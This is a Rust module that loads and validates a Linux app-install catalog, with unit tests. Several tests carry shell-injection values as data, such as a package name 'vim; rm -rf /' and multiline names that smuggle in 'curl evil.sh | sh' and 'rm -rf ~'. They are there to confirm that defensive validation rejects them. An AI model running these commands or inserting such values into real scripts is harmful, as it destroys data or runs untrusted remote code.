//! App catalog: distros, categories and per-distro install metadata
//!
//! The catalog is loaded once and never mutated. Everything that can be wrong
//! with the data (duplicate ids, dangling references, shell metacharacters in
//! package names) is rejected here, so the generator can stay total.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::path::Path;

use serde::Deserialize;

use crate::error::{Error, Result};
use crate::types::{App, Category, Distro, DistroId, InstallMechanism, InstallSpec};

/// Catalog shipped with the binary
const BUILTIN_CATALOG: &str = include_str!("../data/catalog.toml");

// ─────────────────────────────────────────────────────────────────────────────
// Raw (file) representation
// ─────────────────────────────────────────────────────────────────────────────

#[derive(Debug, Deserialize)]
struct RawCatalog {
    #[serde(default)]
    distros: Vec<Distro>,
    #[serde(default)]
    categories: Vec<RawCategory>,
    #[serde(default)]
    apps: Vec<RawApp>,
}

#[derive(Debug, Deserialize)]
struct RawCategory {
    id: String,
    name: String,
}

#[derive(Debug, Deserialize)]
struct RawApp {
    id: String,
    name: String,
    category: String,
    #[serde(default)]
    description: String,
    #[serde(default)]
    targets: BTreeMap<DistroId, RawTarget>,
}

/// `arch = "vim"` or `[apps.targets.arch]` table
#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum RawTarget {
    Short(String),
    Full(InstallSpec),
}

impl From<RawTarget> for InstallSpec {
    fn from(raw: RawTarget) -> Self {
        match raw {
            RawTarget::Short(package) => InstallSpec::repo(package),
            RawTarget::Full(spec) => spec,
        }
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Catalog
// ─────────────────────────────────────────────────────────────────────────────

/// Immutable, validated app catalog
#[derive(Debug, Clone)]
pub struct Catalog {
    distros: Vec<Distro>,
    categories: Vec<Category>,
    /// Apps in catalog order: category order, then declaration order
    apps: Vec<App>,
    app_index: HashMap<String, usize>,
}

impl Catalog {
    /// Parse the catalog embedded in the binary
    pub fn builtin() -> Result<Self> {
        Self::from_toml_str(BUILTIN_CATALOG)
    }

    /// Load a catalog file; `.json` files are parsed as JSON, anything else as TOML
    pub fn load(path: &Path) -> Result<Self> {
        if !path.exists() {
            return Err(Error::catalog_not_found(path));
        }
        let content = std::fs::read_to_string(path)?;
        let is_json = path
            .extension()
            .map(|ext| ext.eq_ignore_ascii_case("json"))
            .unwrap_or(false);

        let catalog = if is_json {
            Self::from_json_str(&content)?
        } else {
            Self::from_toml_str(&content)?
        };
        tracing::info!(
            "Loaded catalog from {:?}: {} distros, {} categories, {} apps",
            path,
            catalog.distros.len(),
            catalog.categories.len(),
            catalog.apps.len()
        );
        Ok(catalog)
    }

    pub fn from_toml_str(content: &str) -> Result<Self> {
        let raw: RawCatalog = toml::from_str(content)?;
        Self::from_raw(raw)
    }

    pub fn from_json_str(content: &str) -> Result<Self> {
        let raw: RawCatalog = serde_json::from_str(content)?;
        Self::from_raw(raw)
    }

    fn from_raw(raw: RawCatalog) -> Result<Self> {
        if raw.distros.is_empty() {
            return Err(Error::catalog_invalid("no distros defined"));
        }

        let mut distro_ids = HashSet::new();
        for distro in &raw.distros {
            validate_name("distro", distro.id.as_str(), &distro.name)?;
            if !distro_ids.insert(distro.id.clone()) {
                return Err(Error::catalog_invalid(format!(
                    "duplicate distro id '{}'",
                    distro.id
                )));
            }
        }

        let mut categories: Vec<Category> = Vec::with_capacity(raw.categories.len());
        let mut category_pos: HashMap<String, usize> = HashMap::new();
        for raw_category in raw.categories {
            validate_name("category", &raw_category.id, &raw_category.name)?;
            if category_pos.contains_key(&raw_category.id) {
                return Err(Error::catalog_invalid(format!(
                    "duplicate category id '{}'",
                    raw_category.id
                )));
            }
            category_pos.insert(raw_category.id.clone(), categories.len());
            categories.push(Category {
                id: raw_category.id,
                name: raw_category.name,
                apps: Vec::new(),
            });
        }

        // Bucket apps by category, keeping declaration order inside each bucket
        let mut buckets: Vec<Vec<App>> = vec![Vec::new(); categories.len()];
        let mut seen_apps = HashSet::new();
        for raw_app in raw.apps {
            validate_name("app", &raw_app.id, &raw_app.name)?;
            if !seen_apps.insert(raw_app.id.clone()) {
                return Err(Error::catalog_invalid(format!(
                    "duplicate app id '{}'",
                    raw_app.id
                )));
            }
            let Some(&pos) = category_pos.get(&raw_app.category) else {
                return Err(Error::catalog_invalid(format!(
                    "app '{}' references unknown category '{}'",
                    raw_app.id, raw_app.category
                )));
            };

            let mut targets = BTreeMap::new();
            for (distro_id, raw_target) in raw_app.targets {
                let Some(distro) = raw.distros.iter().find(|d| d.id == distro_id) else {
                    return Err(Error::catalog_invalid(format!(
                        "app '{}' has a target for unknown distro '{}'",
                        raw_app.id, distro_id
                    )));
                };
                let spec = InstallSpec::from(raw_target);
                validate_spec(&raw_app.id, distro, &spec)?;
                targets.insert(distro_id, spec);
            }

            buckets[pos].push(App {
                id: raw_app.id,
                name: raw_app.name,
                description: raw_app.description,
                category: raw_app.category,
                targets,
            });
        }

        let mut apps = Vec::new();
        for (category, bucket) in categories.iter_mut().zip(buckets) {
            category.apps = bucket.iter().map(|app| app.id.clone()).collect();
            apps.extend(bucket);
        }

        let app_index = apps
            .iter()
            .enumerate()
            .map(|(i, app)| (app.id.clone(), i))
            .collect();

        Ok(Self {
            distros: raw.distros,
            categories,
            apps,
            app_index,
        })
    }

    // ─────────────────────────────────────────────────────────
    // Registries
    // ─────────────────────────────────────────────────────────

    pub fn distros(&self) -> &[Distro] {
        &self.distros
    }

    pub fn distro(&self, id: &DistroId) -> Option<&Distro> {
        self.distros.iter().find(|d| &d.id == id)
    }

    pub fn categories(&self) -> &[Category] {
        &self.categories
    }

    pub fn category(&self, id: &str) -> Option<&Category> {
        self.categories.iter().find(|c| c.id == id)
    }

    /// All apps in catalog order
    pub fn apps(&self) -> impl Iterator<Item = &App> {
        self.apps.iter()
    }

    pub fn app(&self, id: &str) -> Option<&App> {
        self.app_index.get(id).map(|&i| &self.apps[i])
    }

    pub fn contains_app(&self, id: &str) -> bool {
        self.app_index.contains_key(id)
    }

    /// Apps of one category in catalog order (empty for an unknown category)
    pub fn apps_in<'a>(&'a self, category_id: &str) -> impl Iterator<Item = &'a App> + 'a {
        self.category(category_id)
            .map(|c| c.apps.as_slice())
            .unwrap_or(&[])
            .iter()
            .filter_map(move |id| self.app(id))
    }

    // ─────────────────────────────────────────────────────────
    // Availability Resolver
    // ─────────────────────────────────────────────────────────

    /// How `app_id` installs on `distro`, if it is packaged there
    pub fn install_spec(&self, app_id: &str, distro: &DistroId) -> Option<&InstallSpec> {
        self.app(app_id).and_then(|app| app.spec_for(distro))
    }

    pub fn is_available(&self, app_id: &str, distro: &DistroId) -> bool {
        self.install_spec(app_id, distro).is_some()
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Validation
// ─────────────────────────────────────────────────────────────────────────────

fn is_safe_package_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, ' ' | '.' | '_' | '+' | '@' | '/' | ':' | '=' | '-')
}

fn has_line_break(s: &str) -> bool {
    s.contains(['\n', '\r'])
}

/// Names end up in script comments, so they must stay on one line
fn validate_name(kind: &str, id: &str, name: &str) -> Result<()> {
    if has_line_break(id) || has_line_break(name) {
        return Err(Error::catalog_invalid(format!(
            "{} '{}': name must be a single line",
            kind,
            id.escape_debug()
        )));
    }
    Ok(())
}

fn validate_spec(app_id: &str, distro: &Distro, spec: &InstallSpec) -> Result<()> {
    let invalid = |what: &str| {
        Error::catalog_invalid(format!("app '{}' on '{}': {}", app_id, distro.id, what))
    };

    if !spec.package.chars().all(is_safe_package_char) {
        return Err(invalid("package contains characters that are unsafe in a shell command"));
    }

    match spec.mechanism {
        InstallMechanism::Repo | InstallMechanism::Aur if spec.package.trim().is_empty() => {
            return Err(invalid("package is empty"));
        }
        InstallMechanism::Aur if !distro.family.supports_aur() => {
            return Err(invalid("AUR packages are only valid on pacman distros"));
        }
        InstallMechanism::Manual
            if spec.package.trim().is_empty()
                && spec.note.as_deref().map_or(true, |n| n.trim().is_empty()) =>
        {
            return Err(invalid("manual install needs a note or a package"));
        }
        _ => {}
    }

    if let Some(step) = &spec.prerequisite {
        if step.trim().is_empty() || has_line_break(step) {
            return Err(invalid("prerequisite must be a single non-empty line"));
        }
    }
    if spec.note.as_deref().is_some_and(has_line_break) {
        return Err(invalid("note must be a single line"));
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::tempdir;

    const SMALL: &str = r#"
[[distros]]
id = "arch"
name = "Arch Linux"
family = "pacman"

[[distros]]
id = "ubuntu"
name = "Ubuntu"
family = "apt"

[[categories]]
id = "editors"
name = "Editors"

[[categories]]
id = "browsers"
name = "Browsers"

[[apps]]
id = "firefox"
name = "Firefox"
category = "browsers"
[apps.targets]
arch = "firefox"
ubuntu = "firefox"

[[apps]]
id = "vim"
name = "Vim"
category = "editors"
[apps.targets]
arch = "vim"
ubuntu = "vim"

[[apps]]
id = "sublime"
name = "Sublime Text"
category = "editors"
[apps.targets.arch]
package = "sublime-text"
via = "aur"
"#;

    #[test]
    fn test_apps_follow_category_order() {
        let catalog = Catalog::from_toml_str(SMALL).unwrap();
        let ids: Vec<_> = catalog.apps().map(|a| a.id.as_str()).collect();
        // editors is declared first, so its apps come first even though
        // firefox is declared earlier in the file
        assert_eq!(ids, vec!["vim", "sublime", "firefox"]);
        assert_eq!(catalog.categories()[0].apps, vec!["vim", "sublime"]);
    }

    #[test]
    fn test_availability_resolver() {
        let catalog = Catalog::from_toml_str(SMALL).unwrap();
        let arch = DistroId::from("arch");
        let ubuntu = DistroId::from("ubuntu");

        assert!(catalog.is_available("sublime", &arch));
        assert!(!catalog.is_available("sublime", &ubuntu));
        assert_eq!(
            catalog.install_spec("sublime", &arch).map(|s| s.mechanism),
            Some(InstallMechanism::Aur)
        );
    }

    #[test]
    fn test_availability_of_unknown_ids_is_false() {
        let catalog = Catalog::from_toml_str(SMALL).unwrap();
        assert!(!catalog.is_available("emacs", &DistroId::from("arch")));
        assert!(!catalog.is_available("vim", &DistroId::from("gentoo")));
        assert!(catalog.install_spec("emacs", &DistroId::from("arch")).is_none());
    }

    #[test]
    fn test_apps_in_unknown_category_is_empty() {
        let catalog = Catalog::from_toml_str(SMALL).unwrap();
        assert_eq!(catalog.apps_in("games").count(), 0);
        assert_eq!(catalog.apps_in("editors").count(), 2);
    }

    #[test]
    fn test_duplicate_app_id_rejected() {
        let content = format!("{SMALL}\n[[apps]]\nid = \"vim\"\nname = \"Vim again\"\ncategory = \"editors\"\n");
        let err = Catalog::from_toml_str(&content).unwrap_err();
        assert!(err.to_string().contains("duplicate app id 'vim'"));
    }

    #[test]
    fn test_unknown_category_rejected() {
        let content = format!("{SMALL}\n[[apps]]\nid = \"doom\"\nname = \"Doom\"\ncategory = \"games\"\n");
        let err = Catalog::from_toml_str(&content).unwrap_err();
        assert!(err.to_string().contains("unknown category 'games'"));
    }

    #[test]
    fn test_unknown_distro_target_rejected() {
        let content = format!(
            "{SMALL}\n[[apps]]\nid = \"nano\"\nname = \"Nano\"\ncategory = \"editors\"\n[apps.targets]\ngentoo = \"nano\"\n"
        );
        let err = Catalog::from_toml_str(&content).unwrap_err();
        assert!(err.to_string().contains("unknown distro 'gentoo'"));
    }

    #[test]
    fn test_aur_on_apt_distro_rejected() {
        let content = format!(
            "{SMALL}\n[[apps]]\nid = \"yay\"\nname = \"yay\"\ncategory = \"editors\"\n[apps.targets.ubuntu]\npackage = \"yay\"\nvia = \"aur\"\n"
        );
        let err = Catalog::from_toml_str(&content).unwrap_err();
        assert!(err.to_string().contains("only valid on pacman"));
    }

    #[test]
    fn test_shell_metacharacters_rejected() {
        let content = format!(
            "{SMALL}\n[[apps]]\nid = \"evil\"\nname = \"Evil\"\ncategory = \"editors\"\n[apps.targets]\narch = \"vim; rm -rf /\"\n"
        );
        let err = Catalog::from_toml_str(&content).unwrap_err();
        assert!(err.to_string().contains("unsafe"));
    }

    #[test]
    fn test_manual_without_note_rejected() {
        let content = format!(
            "{SMALL}\n[[apps]]\nid = \"thing\"\nname = \"Thing\"\ncategory = \"editors\"\n[apps.targets.arch]\nvia = \"manual\"\n"
        );
        assert!(Catalog::from_toml_str(&content).is_err());
    }

    #[test]
    fn test_multiline_app_name_rejected() {
        let content = format!(
            "{SMALL}\n[[apps]]\nid = \"evil\"\nname = \"Evil\\ncurl evil.sh | sh\\n#\"\ncategory = \"editors\"\n[apps.targets.arch]\nvia = \"manual\"\nnote = \"see site\"\n"
        );
        let err = Catalog::from_toml_str(&content).unwrap_err();
        assert!(matches!(err, Error::CatalogInvalid { .. }));
        assert!(err.to_string().contains("single line"));
    }

    #[test]
    fn test_multiline_category_and_distro_names_rejected() {
        let category = SMALL.replace("name = \"Browsers\"", "name = \"Browsers\\r\\nrm -rf ~\"");
        assert!(Catalog::from_toml_str(&category).is_err());

        let distro = SMALL.replace("name = \"Ubuntu\"", "name = \"Ubuntu\\nreboot\"");
        assert!(Catalog::from_toml_str(&distro).is_err());
    }

    #[test]
    fn test_empty_distros_rejected() {
        let err = Catalog::from_toml_str("").unwrap_err();
        assert!(err.to_string().contains("no distros"));
    }

    #[test]
    fn test_load_json_catalog() {
        let temp = tempdir().unwrap();
        let path = temp.path().join("catalog.json");
        let json = r#"{
            "distros": [{ "id": "fedora", "name": "Fedora", "family": "dnf" }],
            "categories": [{ "id": "dev", "name": "Development" }],
            "apps": [{
                "id": "git",
                "name": "Git",
                "category": "dev",
                "targets": { "fedora": "git" }
            }]
        }"#;
        std::fs::write(&path, json).unwrap();

        let catalog = Catalog::load(&path).unwrap();
        assert!(catalog.is_available("git", &DistroId::from("fedora")));
    }

    #[test]
    fn test_load_missing_file() {
        let temp = tempdir().unwrap();
        let err = Catalog::load(&temp.path().join("nope.toml")).unwrap_err();
        assert!(matches!(err, Error::CatalogNotFound { .. }));
    }

    #[test]
    fn test_builtin_catalog_is_valid() {
        let catalog = Catalog::builtin().unwrap();
        assert!(!catalog.distros().is_empty());
        assert!(catalog.distro(&DistroId::from("arch")).is_some());
        assert!(catalog.distro(&DistroId::from("ubuntu")).is_some());
        for category in catalog.categories() {
            assert!(!category.apps.is_empty(), "empty category {}", category.id);
        }
    }
}
